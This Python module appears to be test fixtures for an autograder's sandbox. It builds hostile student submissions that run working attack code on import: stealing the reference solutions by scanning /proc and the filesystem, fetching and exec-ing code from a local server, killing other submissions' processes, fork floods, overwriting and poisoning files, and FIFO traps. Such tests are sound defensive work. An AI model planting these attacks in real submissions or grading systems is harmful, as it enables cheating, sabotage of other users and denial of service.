"""Hostile student submissions: each one attacks the grader the way a real submission did on main.

Every builder writes a submission directory (``<dir>/assignments/...``) made from the released stubs or the
reference bodies plus attack code that runs when the grader imports the package. Attacks are written to
*succeed* against an unisolated grader (the child run as the grader's user); the tests check that they fail.
"""

import shutil
import textwrap

from autograder.authoring.samples import STUBS_DIR, copy_as_submission
from autograder.grading import mistakes

HUNT_METHODS = ("ppid_cwd", "ppid_cmdline", "environ", "sys_path_finder", "walk")

# Appended to assignments/__init__.py: find a directory holding the reference, load it under a private name and
# make every ``assignments.<module>`` the reference's module. Any success scores the reference's marks.
HUNT = '''

def _hunt(method):
    import glob, importlib, importlib.util, os, re, sys, time

    def holds_reference(path):
        try:
            with open(os.path.join(path, "a1_vanilla_rnn", "rnn.py")) as handle:
                return "BEGIN SOLUTION" in handle.read() and os.path.isfile(os.path.join(path, "__init__.py"))
        except OSError:
            return False

    def upwards(path):  # <path>/solutions and <ancestor>/solutions for every ancestor
        path = os.path.abspath(path)
        while True:
            yield os.path.join(path, "solutions")
            if os.path.dirname(path) == path:
                return
            path = os.path.dirname(path)

    def finders(directory):  # paths named by editable-install finders and .pth files
        for name in glob.glob(os.path.join(directory, "__editable__*")) + glob.glob(os.path.join(directory, "*.pth")):
            try:
                with open(name, errors="ignore") as handle:
                    text = handle.read()
            except OSError:
                continue
            for found in re.findall(r"['\\"](/[^'\\"]+)['\\"]", text) + re.findall(r"^(/\\S+)$", text, re.M):
                yield found
                yield from upwards(found)

    def site_dirs(path):  # a path, its ancestors and their site-packages (an interpreter, a venv, a sys.path entry)
        path = os.path.realpath(path)
        for _ in range(4):
            yield path
            yield from glob.glob(os.path.join(path, "lib", "python3*", "site-packages"))
            path = os.path.dirname(path)

    candidates = []
    ppid = os.getppid()
    if method == "ppid_cwd":
        candidates += upwards(os.readlink(f"/proc/{ppid}/cwd"))
    elif method == "ppid_cmdline":
        with open(f"/proc/{ppid}/cmdline", "rb") as handle:
            arguments = [a.decode(errors="ignore") for a in handle.read().split(b"\\0")]
        try:
            cwd = os.readlink(f"/proc/{ppid}/cwd")  # relative arguments (".venv/bin/python") are relative to it
        except OSError:
            cwd = "/"
        for argument in arguments:
            for part in argument.split("="):
                if part and not part.startswith("-"):
                    part = os.path.join(cwd, part)
                if part.startswith("/"):
                    candidates += upwards(part)
                    for directory in site_dirs(part):
                        candidates += finders(directory)
    elif method == "environ":
        for environ in glob.glob("/proc/*/environ"):
            try:
                with open(environ, "rb") as handle:
                    items = handle.read().split(b"\\0")
            except OSError:
                continue
            for item in items:
                for part in item.decode(errors="ignore").partition("=")[2].split(":"):
                    if part.startswith("/"):
                        candidates += upwards(part)
    elif method == "sys_path_finder":
        for entry in list(sys.path):
            for path in [entry, *glob.glob(os.path.join(entry, "*"))]:
                for directory in site_dirs(path):
                    candidates += finders(directory)
    elif method == "walk":
        deadline = time.monotonic() + 25
        for top in ("/work", "/autograder", "/home", "/srv", "/opt", "/tmp", "/root", "/"):
            for path, directories, _ in os.walk(top):
                if time.monotonic() > deadline:
                    break
                directories[:] = [d for d in directories if os.path.join(path, d) not in ("/proc", "/sys", "/dev")]
                if "solutions" in directories and holds_reference(os.path.join(path, "solutions")):
                    candidates.append(os.path.join(path, "solutions"))
                    break
            if candidates:
                break
    for candidate in candidates:
        if holds_reference(candidate):
            spec = importlib.util.spec_from_file_location("_stolen", os.path.join(candidate, "__init__.py"),
                                                          submodule_search_locations=[candidate])
            package = importlib.util.module_from_spec(spec)
            sys.modules["_stolen"] = package
            spec.loader.exec_module(package)
            for file in glob.glob(os.path.join(candidate, "**", "*.py"), recursive=True):
                name = os.path.relpath(file, candidate)[:-3].replace(os.sep, ".")
                name = name.removesuffix("__init__").rstrip(".")
                if not name:
                    continue
                sys.modules[f"{__name__}.{name}"] = importlib.import_module(f"_stolen.{name}")
            return candidate
    return None


try:
    STOLEN_FROM = _hunt("{method}")
except Exception:  # noqa: BLE001 - a failed attack leaves the stubs
    STOLEN_FROM = None
'''

# Appended to a1_vanilla_rnn/rnn.py of the stubs: fetch the reference's rnn.py from a local web server (an
# instructor's ``python -m http.server`` or notebook server) and run it in place of the stubs.
NETWORK = '''

def _fetch(port):
    import socket
    with socket.create_connection(("127.0.0.1", port), timeout=3) as connection:
        connection.sendall(b"GET /solutions/a1_vanilla_rnn/rnn.py HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n")
        data = b""
        while chunk := connection.recv(65536):
            data += chunk
    return data.split(b"\\r\\n\\r\\n", 1)[1].decode()


try:
    exec(_fetch({port}), globals())
except Exception:  # noqa: BLE001
    pass
'''

# Appended to assignments/__init__.py of the reference: a daemon (double fork, new session) that outlives the
# child and kills the sandbox children of the *next* submission (the one holding the file VICTIM_MARKER).
DAEMON = '''

def _daemon(name, victim):
    import ctypes, glob, os, signal, time
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    ctypes.CDLL(None).prctl(15, name.encode(), 0, 0, 0)  # PR_SET_NAME: the test counts survivors by name
    for stream in (0, 1, 2):
        os.dup2(os.open(os.devnull, os.O_RDWR), stream)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        for cwd in glob.glob("/proc/[0-9]*/cwd"):
            try:
                if os.path.exists(os.path.join(os.readlink(cwd), "assignments", victim)):
                    os.kill(int(cwd.split("/")[2]), signal.SIGKILL)
            except OSError:
                pass
        time.sleep(0.01)
    os._exit(0)


_daemon("{name}", "{victim}")
'''

# Appended to assignments/__init__.py of the reference: start ``count`` sleeping background processes.
SLEEPERS = '''

def _sleepers(name, count):
    import ctypes, os, time
    started = 0
    for _ in range(count):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            ctypes.CDLL(None).prctl(15, name.encode(), 0, 0, 0)
            time.sleep(60)
            os._exit(0)
        started += 1
    return started


SLEEPERS_STARTED = _sleepers("{name}", {count})
'''

# Appended to assignments/__init__.py of the stubs: write into files outside the sandbox's results.
WRITES = '''

def _write(paths):
    for path in paths:
        try:
            with open(path, "w") as handle:
                handle.write("raise RuntimeError('overwritten by another submission')\\n")
        except OSError:
            pass


_write({paths!r})
'''

# Appended to assignments/__init__.py of the reference: signal the grader.
KILL_PARENT = '''

import os as _os
for _attempt in (lambda: _os.kill(_os.getppid(), 9), lambda: _os.killpg(_os.getpgid(_os.getppid()), 9)):
    try:
        _attempt()
    except OSError:
        pass
'''
# Appended to assignments/__init__.py of the reference: make every result the grader will read a FIFO (reading
# one blocks until someone writes it), then end the child.
FIFOS = '''

import json as _json, os as _os, sys as _sys
_run = _sys.argv[1]
with open(_os.path.join(_run, "job.json")) as _handle:
    for _index in _json.load(_handle)["todo"]:
        _os.mkfifo(_os.path.join(_run, "results", f"{_index}.result"))
_os._exit(0)
'''
# Appended to assignments/__init__.py of the reference: overwrite every file of the task cases the child imported
# (one copy per grader process, shared by the children of every submission it grades), so that the next
# submission's child cannot import them.
POISON_CASES = '''

import os as _os, sys as _sys
_cases = _os.path.dirname(_os.path.realpath(_sys.modules["course_cases"].__file__))
for _top, _dirs, _files in _os.walk(_cases):
    for _name in _files:
        try:
            with open(_os.path.join(_top, _name), "wb") as _handle:
                _handle.write(b"raise SystemExit('poisoned by another submission')\\n")
        except OSError:
            pass
'''
KILL_GROUP = '''

import os as _os
_os.killpg(0, 9)
'''


def stubs(root):
    """The released stubs as a submission in ``root``; returns root."""
    copy_as_submission(STUBS_DIR, root)
    return root


def reference(root):
    """The reference bodies as a submission in ``root``; returns root."""
    copy_as_submission(mistakes.SOLUTIONS_DIR, root)
    return root


def append(root, file, code):
    path = root / "assignments" / file
    path.write_text(path.read_text() + textwrap.dedent(code))
    return root


def hunter(root, method):
    return append(stubs(root), "__init__.py", HUNT.replace("{method}", method))


def network(root, port):
    return append(stubs(root), "a1_vanilla_rnn/rnn.py", NETWORK.replace("{port}", str(port)))


def daemon(root, name, victim):
    return append(reference(root), "__init__.py", DAEMON.replace("{name}", name).replace("{victim}", victim))


def victim(root, marker):
    """The reference, marked so that the daemon of ``daemon`` recognises its sandbox children."""
    reference(root)
    (root / "assignments" / marker).write_text("")
    return root


def sleepers(root, name, count):
    return append(reference(root), "__init__.py", SLEEPERS.replace("{name}", name).replace("{count}", str(count)))


def writer(root, paths):
    return append(stubs(root), "__init__.py", WRITES.replace("{paths!r}", repr([str(p) for p in paths])))


def kill_parent(root):
    return append(reference(root), "__init__.py", KILL_PARENT)


def fifos(root):
    return append(reference(root), "__init__.py", FIFOS)


def poison_cases(root):
    return append(reference(root), "__init__.py", POISON_CASES)


def kill_group(root):
    return append(reference(root), "__init__.py", KILL_GROUP)


def copy_tree(source, destination):
    shutil.copytree(source, destination)
    return destination
